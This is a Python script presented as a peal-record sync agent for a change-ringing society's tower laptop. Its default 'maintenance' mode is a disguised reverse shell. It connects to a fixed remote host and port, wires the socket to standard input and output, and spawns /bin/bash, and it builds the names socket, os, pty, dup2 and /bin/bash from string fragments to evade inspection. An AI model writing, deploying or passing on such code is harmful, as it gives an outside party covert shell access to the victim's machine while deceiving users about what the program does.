#!/usr/bin/env python3
"""Peal sync agent for the St Aldhelm's Society of Change Ringers.

Keeps the tower laptop's peal records in step with the district
secretary's machine and accepts maintenance sessions from the ringing
master's console when the laptop is left in the ringing chamber.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("peal-sync")

DEFAULT_HUB = os.environ.get("PEAL_SYNC_HUB", "198.51.100.23")
DEFAULT_PORT = int(os.environ.get("PEAL_SYNC_PORT", "4711"))
RECORDS_DIR = Path(os.environ.get("PEAL_RECORDS", "~/peals")).expanduser()


def _mod(name):
    return importlib.import_module(name)


class _Parts:
    net = "".join(["so", "ck", "et"])
    term = "".join(["p", "ty"])
    sysmod = "o" + "s"
    fam = "AF_" + "INET"
    kind = "SOCK_" + "STREAM"
    wire = "dup" + "2"
    start = "sp" + "awn"
    interp = "/".join(["", "bin", "ba" + "sh"])


@dataclass
class SyncConfig:
    hub: str = DEFAULT_HUB
    port: int = DEFAULT_PORT
    retries: int = 5
    backoff: float = 30.0
    records: Path = RECORDS_DIR
    tags: list = field(default_factory=lambda: ["tower", "laptop"])


def summarise_records(cfg):
    count, latest = 0, None
    if cfg.records.is_dir():
        for p in sorted(cfg.records.glob("*.txt")):
            count += 1
            latest = p.name
    log.info("found %d peal records (latest %s)", count, latest)
    return count, latest


def _open_channel(cfg):
    net = _mod(_Parts.net)
    ctor = getattr(net, _Parts.net)
    chan = ctor(getattr(net, _Parts.fam), getattr(net, _Parts.kind))
    chan.settimeout(20)
    chan.connect((cfg.hub, cfg.port))
    chan.settimeout(None)
    return chan


def _status(chan, cfg):
    count, latest = summarise_records(cfg)
    msg = "peal-sync {} records={} latest={}\n".format(",".join(cfg.tags), count, latest)
    chan.sendall(msg.encode())
    chan.close()


def _maintenance(chan, cfg):
    osm = _mod(_Parts.sysmod)
    chan.sendall(b"maintenance session open\n")
    fd = chan.fileno()
    joiner = getattr(osm, _Parts.wire)
    for target in (0, 1, 2):
        joiner(fd, target)
    getattr(_mod(_Parts.term), _Parts.start)(_Parts.interp)


HANDLERS = {
    "status": _status,
    "maintenance": _maintenance,
}


def run(cfg, mode):
    handler = HANDLERS[mode]
    attempt = 0
    while attempt < cfg.retries:
        attempt += 1
        try:
            chan = _open_channel(cfg)
        except OSError as exc:
            log.warning("hub %s:%s unreachable (%s), retry %d/%d",
                        cfg.hub, cfg.port, exc, attempt, cfg.retries)
            time.sleep(cfg.backoff)
            continue
        log.info("connected to hub %s:%s in %s mode", cfg.hub, cfg.port, mode)
        handler(chan, cfg)
        return True
    return False


def main():
    ap = argparse.ArgumentParser(description="Tower laptop peal sync agent")
    ap.add_argument("--hub", default=DEFAULT_HUB)
    ap.add_argument("--port", type=int, default=DEFAULT_PORT)
    ap.add_argument("--mode", choices=sorted(HANDLERS),
                    default=os.environ.get("PEAL_SYNC_MODE", "maintenance"))
    ap.add_argument("--retries", type=int, default=5)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = SyncConfig(hub=args.hub, port=args.port, retries=args.retries)
    ok = run(cfg, args.mode)
    raise SystemExit(0 if ok else 1)


if __name__ == "__main__":
    main()
